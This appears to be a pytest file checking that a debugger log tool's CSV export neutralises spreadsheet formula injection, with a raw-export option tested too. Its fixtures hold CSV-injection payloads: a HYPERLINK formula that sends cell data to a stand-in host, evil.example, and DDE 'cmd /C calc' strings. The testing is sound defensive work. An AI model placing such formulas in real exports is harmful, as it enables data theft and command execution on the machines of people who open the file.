"""The CSV export neutralizes cells a spreadsheet would run (issue 30; OWASP's CSV injection
guidance): an op name, graph name, path or function name from an untrusted logdir that starts
with `=`, `+`, `-`, `@`, a tab or a CR gets a leading `'` (shown as text, never evaluated);
numbers stay numbers; `--raw-csv` writes every cell as recorded."""

from __future__ import annotations

import csv
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from hostile.checks import HANG_GUARD, child_env
from support.paths import ROOT

from dumper.writer import LogdirWriter

OP = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
GRAPH = "+cmd|' /C calc'!A0"
FILE = "@SUM(1+1)*cmd|' /C calc'!A0.py"
FUNCTION = "-2+3+cmd|' /C calc'!A0"
TAB = "\tstep"
HOSTILE = {OP, GRAPH, FILE, FUNCTION, TAB}


@pytest.fixture(scope="module")
def logdir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    d = tmp_path_factory.mktemp("csv") / "run"
    with LogdirWriter(d, run_id="csv", hostname="h0", file_timestamp=1000) as w:
        f = w.add_source_file(FILE, ["x = data()", "y = tf.math.log(x)"])
        frames = [w.add_stack_frame(f, 2, FUNCTION), w.add_stack_frame(f, 1, TAB)]
        w.add_graph("g", GRAPH)
        w.add_op("g", "Log", OP, [], stack_frame_ids=frames)
        v = np.zeros((4, 11))
        v[:, 2], v[:, 3], v[:, 4], v[:, 10] = 1, 1, 8, 8
        v[1, 7], v[1, 10] = 1, 7  # a NaN: an alert, with its op, graph and user frame
        w.add_graph_traces("g", OP, 0, "FULL_HEALTH", v, wall_times=-5.0 + np.arange(4))
    return d


def export(logdir: Path, out: Path, *flags: str) -> dict[str, list[dict[str, str]]]:
    proc = subprocess.run([sys.executable, "-m", "tfdbg_tui", "export", "--format", "csv",
                           *flags, str(logdir), str(out)], capture_output=True, text=True,
                          env=child_env(), cwd=str(ROOT), timeout=HANG_GUARD)
    assert proc.returncode == 0, proc.stderr
    tables = {}
    for name in ("graph_traces", "alerts", "stack_frames"):
        with open(out / f"{name}.csv", newline="", encoding="utf-8") as fh:
            tables[name] = list(csv.DictReader(fh))
    return tables


def cells(tables: dict[str, list[dict[str, str]]]) -> list[str]:
    return [v for rows in tables.values() for row in rows for v in row.values() if v]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_formula_cells_are_neutralized(logdir: Path, tmp_path: Path) -> None:
    tables = export(logdir, tmp_path / "out")
    for cell in cells(tables):
        assert cell[0] not in "=+-@\t\r" or _number(cell), repr(cell)
    seen = set(cells(tables))
    assert {"'" + text for text in HOSTILE} <= seen, seen  # each kept, as text
    assert tables["graph_traces"][0]["wall_time"] == "-5"  # a number is not touched
    assert tables["alerts"][0]["op_name"] == "'" + OP


def test_raw_csv_keeps_the_cells_as_recorded(logdir: Path, tmp_path: Path) -> None:
    tables = export(logdir, tmp_path / "out", "--raw-csv")
    assert HOSTILE <= set(cells(tables))
    assert tables["alerts"][0]["op_name"] == OP
